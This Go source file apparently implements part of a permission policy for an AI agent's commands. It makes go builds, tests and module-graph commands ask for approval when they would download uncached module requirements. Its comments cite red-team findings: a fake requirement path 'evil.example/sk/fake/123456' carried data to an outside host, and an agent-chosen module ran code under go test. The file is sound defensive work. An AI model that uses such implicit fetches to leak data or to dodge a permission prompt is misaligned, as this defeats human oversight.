package permit

import (
	"go/parser"
	"go/token"
	"path"
	"strconv"
	"strings"

	"github.com/teamlead/teamlead/internal/goenv"
	"golang.org/x/mod/modfile"
	"golang.org/x/mod/module"
)

// A go.mod requirement the module cache does not hold is downloaded by
// the next go build, test, list -m all or mod graph: its path reaches the
// module proxy and, through it, the host it names (data in the address),
// and its code is what the build compiles and the tests run (red team
// 14b, finding 2: require evil.example/sk/fake/123456 reached the host;
// a module of the agent's choosing ran its init under go test). That is
// go get done implicitly, and go get asks. So a go command that loads
// the module graph asks when a requirement of the main module (or of a
// module go.work uses) is not in GOMODCACHE/cache/download: a module
// fetched once, when the human allowed it, is not fetched again. Vendor
// mode (-mod=vendor, or vendor/modules.txt beside a go.mod of go 1.14 or
// later) loads packages from vendor/ and downloads nothing; go mod and go
// list -m read the module graph whatever the mode.

// GoModCacheOf returns the go command's module cache as getenv's
// environment sets it (GOMODCACHE, GOPATH, or the go env file go env -w
// writes); "" when nothing does, and $HOME/go/pkg/mod is meant.
func GoModCacheOf(getenv func(string) string) string { return goenv.ModCacheSet(getenv) }

// goModCache is the module cache the policy looks in.
func (e Env) goModCache() (string, bool) {
	switch {
	case e.GoModCache != "":
		return e.GoModCache, true
	case e.Home != "":
		return path.Join(e.Home, "go", "pkg", "mod"), true
	}
	return "", false
}

// goFetchHits: a go command that loads the module graph where a
// requirement is missing from the module cache.
func goFetchHits(pt part, cwds cwdSet, env Env) []hit {
	v := pt.view
	sub, rest := goSub(v.args)
	if v.name != "go" || !goResolves[sub] || sub == "get" || env.FS == nil || cwds.unknown {
		return nil // go get asks by its rule
	}
	if sub == "mod" && len(rest) > 0 && (rest[0].Value == "edit" || rest[0].Value == "init") {
		return nil
	}
	graph := sub == "mod" || sub == "doc" || sub == "list" && hasWord(rest, "-m") // go doc loads the whole graph (red team 19a, finding 2)
	mode := goModFlag(pt.cmd, v.args)
	for _, d := range cwds.dirs {
		_, root, ok := env.moduleRoot(d)
		if !ok {
			continue
		}
		for _, m := range append([]string{root}, env.workModules(root)...) {
			if hs := env.missingModules(path.Join(m, "go.mod"), graph, mode); hs != nil {
				return hs
			}
		}
	}
	return nil
}

// goSub is a go command line's subcommand and the words after it.
func goSub(args []Word) (string, []Word) {
	for i := 0; i < len(args); i++ {
		a := args[i].Value
		if a == "-C" {
			i++
			continue
		}
		if !strings.HasPrefix(a, "-") {
			return a, args[i+1:]
		}
	}
	return "", nil
}

// goModFlag is the -mod value the command line or its GOFLAGS gives.
func goModFlag(c Command, args []Word) string {
	mode := ""
	for _, w := range append(append([]Word{}, c.Assigns...), c.Args...) {
		if val, ok := strings.CutPrefix(w.Value, "GOFLAGS="); ok && !w.Dynamic {
			for _, f := range quotedSplit(val) {
				if m, ok := strings.CutPrefix(strings.TrimLeft(f, "-"), "mod="); ok {
					mode = m
				}
			}
		}
	}
	for _, a := range args {
		if m, ok := strings.CutPrefix(strings.TrimLeft(a.Value, "-"), "mod="); ok && strings.HasPrefix(a.Value, "-") {
			mode = m
		}
	}
	return mode
}

// workModules are the module folders a go.work above root uses.
func (e Env) workModules(root string) []string {
	for d := root; e.inside(d); d = path.Dir(d) {
		file := path.Join(d, "go.work")
		body, err := e.FS.ReadFile(file)
		if err == nil {
			w, err := modfile.ParseWork(file, body, nil)
			if err != nil {
				return nil // go refuses it, and builds nothing
			}
			var out []string
			for _, u := range w.Use {
				if !path.IsAbs(u.Path) {
					out = append(out, path.Join(d, u.Path))
				}
			}
			return out
		}
		if d == e.Workdir || d == "/" {
			break
		}
	}
	return nil
}

// missingModules judges the requirements of one go.mod against the cache.
func (e Env) missingModules(file string, graph bool, mode string) []hit {
	body, err := e.FS.ReadFile(e.realPath(file))
	if err != nil {
		return nil
	}
	f, err := modfile.Parse(file, body, nil)
	if err != nil {
		return []hit{{id: FloorURLData, detail: file + " is not a go.mod the policy can read: what go downloads for it is unknown"}}
	}
	if !graph && e.vendored(path.Dir(file), f, mode) {
		return nil
	}
	cache, known := e.goModCache()
	missing := map[string]string{} // required path -> what go downloads
	for _, r := range f.Require {
		p, ver, local := replaced(f, r.Mod)
		if local || known && e.cachedModule(cache, p, ver) {
			continue // a folder is judged by the manifest floor
		}
		what := p + " " + ver
		if graph || p != r.Mod.Path {
			// The graph reads every go.mod; a replacement is fetched for
			// whichever package imports the module, a dependency's too.
			return goFetchHit(file, what)
		}
		missing[r.Mod.Path] = what
	}
	if len(missing) == 0 {
		return nil
	}
	if imp, ok := e.importsMissing(path.Dir(file), f, missing); ok {
		return goFetchHit(file, imp)
	}
	return nil
}

func goFetchHit(file, what string) []hit {
	return []hit{{id: FloorURLData, detail: file + " requires " + what + ", which the module cache does not hold: go downloads it " +
		"(its path reaches the module proxy and the host it names, and its code is built and run), as go get would"}}
}

// importsMissing reports a package of the module at root that imports a
// package of a missing requirement (which go then downloads), or a tree
// too large to look through. A requirement nothing imports is not
// fetched to build (the module graph is pruned): go.mod lists many such.
func (e Env) importsMissing(root string, f *modfile.File, missing map[string]string) (string, bool) {
	const maxDirs, maxFiles = 5000, 20000
	owner := func(imp string) string { // the requirement providing imp: the longest path
		best := ""
		for _, r := range f.Require {
			if (imp == r.Mod.Path || strings.HasPrefix(imp, r.Mod.Path+"/")) && len(r.Mod.Path) > len(best) {
				best = r.Mod.Path
			}
		}
		return best
	}
	files, dirs := 0, 0
	queue := []string{root}
	for len(queue) > 0 {
		d := queue[0]
		queue = queue[1:]
		ents, err := e.FS.ReadDir(d)
		if err != nil {
			continue
		}
		for _, ent := range ents {
			n, full := ent.Name(), path.Join(d, ent.Name())
			switch {
			case ent.IsDir():
				if strings.HasPrefix(n, ".") || strings.HasPrefix(n, "_") || n == "testdata" || n == "vendor" {
					continue
				}
				if _, err := e.FS.Lstat(path.Join(full, "go.mod")); err == nil {
					continue // another module
				}
				if dirs++; dirs > maxDirs {
					return "the packages of " + root + " (too many folders to look through)", true
				}
				queue = append(queue, full)
			case strings.HasSuffix(n, ".go") && ent.Type().IsRegular():
				if files++; files > maxFiles {
					return "the packages of " + root + " (too many files to look through)", true
				}
				imps, ok := e.goImports(full)
				if !ok {
					return full + "'s imports (it is not Go the policy can read)", true
				}
				for _, imp := range imps {
					if m, ok := missing[owner(imp)]; ok {
						return m + " (" + full + " imports " + imp + ")", true
					}
				}
			}
		}
	}
	return "", false
}

// goImports are the import paths of a Go file, as go reads them.
func (e Env) goImports(file string) ([]string, bool) {
	body, err := e.FS.ReadFile(file)
	if err != nil {
		return nil, true
	}
	f, err := parser.ParseFile(token.NewFileSet(), file, body, parser.ImportsOnly)
	if err != nil {
		return nil, false
	}
	var out []string
	for _, s := range f.Imports {
		p, err := strconv.Unquote(s.Path.Value)
		if err != nil {
			return nil, false
		}
		out = append(out, p)
	}
	return out, true
}

// replaced is the module go fetches for a requirement: its replacement,
// or itself; local when a folder replaces it.
func replaced(f *modfile.File, m module.Version) (string, string, bool) {
	for _, r := range f.Replace {
		if r.Old.Path == m.Path && (r.Old.Version == "" || r.Old.Version == m.Version) {
			return r.New.Path, r.New.Version, r.New.Version == ""
		}
	}
	return m.Path, m.Version, false
}

// cachedModule reports a module version whose go.mod the cache holds.
func (e Env) cachedModule(cache, p, ver string) bool {
	ep, err1 := module.EscapePath(p)
	ev, err2 := module.EscapeVersion(ver)
	if err1 != nil || err2 != nil {
		return false
	}
	fi, err := e.FS.Lstat(path.Join(cache, "cache", "download", ep, "@v", ev+".mod"))
	return err == nil && fi.Mode().IsRegular()
}

// vendored reports a module whose packages go loads from vendor/.
func (e Env) vendored(dir string, f *modfile.File, mode string) bool {
	switch mode {
	case "vendor":
		return true
	case "mod", "readonly":
		return false
	}
	if f.Go == nil || !goMinorAtLeast(f.Go.Version, 14) {
		return false
	}
	fi, err := e.FS.Lstat(path.Join(dir, "vendor", "modules.txt"))
	return err == nil && fi.Mode().IsRegular()
}

// goMinorAtLeast reports a go line's version of Go 1.minor or later.
func goMinorAtLeast(v string, minor int) bool {
	rest, ok := strings.CutPrefix(v, "1.")
	if !ok {
		return false
	}
	n := 0
	for _, c := range rest {
		if c < '0' || c > '9' {
			break
		}
		n = n*10 + int(c-'0')
	}
	return n >= minor
}
